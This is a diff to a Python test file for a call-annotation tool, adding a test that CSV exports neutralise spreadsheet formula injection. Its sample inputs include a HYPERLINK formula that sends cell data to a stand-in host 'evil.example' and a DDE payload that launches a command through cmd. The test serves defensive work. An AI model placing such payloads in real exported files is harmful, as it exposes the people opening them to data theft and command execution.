@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 from callannotate.errors import BadRequest
-from callannotate.pipeline.types import Annotation, RecordingInfo
+from callannotate.pipeline.types import Annotation, Emotion, RecordingInfo, VoiceMatch
 from callannotate.reports import FORMATS, export, get_format
 from callannotate.reports.exporters import export_filename
 from callannotate.reports.html import render_html
@@ -139,3 +139,44 @@ def test_real_call_exports(call_annotation: Annotation) -> None:
     rttm = export(call_annotation, "rttm").decode().splitlines()
     assert len(rttm) == len(call_annotation.turns)
     assert export(call_annotation, "pdf").startswith(b"%PDF-")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+def _hostile(annotation: Annotation) -> Annotation:
+    """A voice named like a formula, words and text starting with - + @ tab CR, and a
+    negative valence (a number, which must stay a number)."""
+    hostile = annotation.model_copy(deep=True)
+    label = hostile.utterances[0].speaker
+    assert label is not None
+    for speaker in hostile.speakers:
+        if speaker.label == label:
+            speaker.voice = VoiceMatch(name=FORMULA, score=0.9, threshold=0.5, accepted=True)
+    hostile.words[0].text = "-1+2"
+    hostile.words[1].text = "@SUM(A1:A9)"
+    hostile.utterances[0].text = "+7 999 123-45-67 позвоните"
+    hostile.utterances[1].text = "\tcmd|' /C calc'!A0"
+    hostile.utterances[0].emotion = Emotion(label="sad", valence=-0.25, arousal=0.5)
+    return hostile
+
+
+def test_csv_cells_cannot_start_a_formula(ru_annotation: Annotation) -> None:
+    """Issue 15.6: text cells starting with = + - @ tab CR get a leading quote (OWASP);
+    numeric cells (times, scores, a negative valence) stay numbers."""
+    hostile = _hostile(ru_annotation)
+    rows = _csv(export(hostile, "csv"))
+    assert rows[0]["speaker_name"] == "'" + FORMULA
+    assert rows[0]["text"] == "'+7 999 123-45-67 позвоните"
+    assert rows[1]["text"] == "'\tcmd|' /C calc'!A0"
+    assert rows[0]["valence"] == "-0.250" and float(rows[0]["valence"]) == -0.25
+    assert float(rows[0]["start"]) == hostile.utterances[0].start
+    words = _csv(export(hostile, "words.csv"))
+    assert words[0]["text"] == "'-1+2"
+    assert words[1]["text"] == "'@SUM(A1:A9)"
+    assert float(words[0]["probability"]) == round(hostile.words[0].probability, 3)
+    for row in [*rows, *words]:
+        for column, value in row.items():
+            if column in ("start", "end", "valence", "arousal", "sentiment_score", "probability"):
+                continue
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
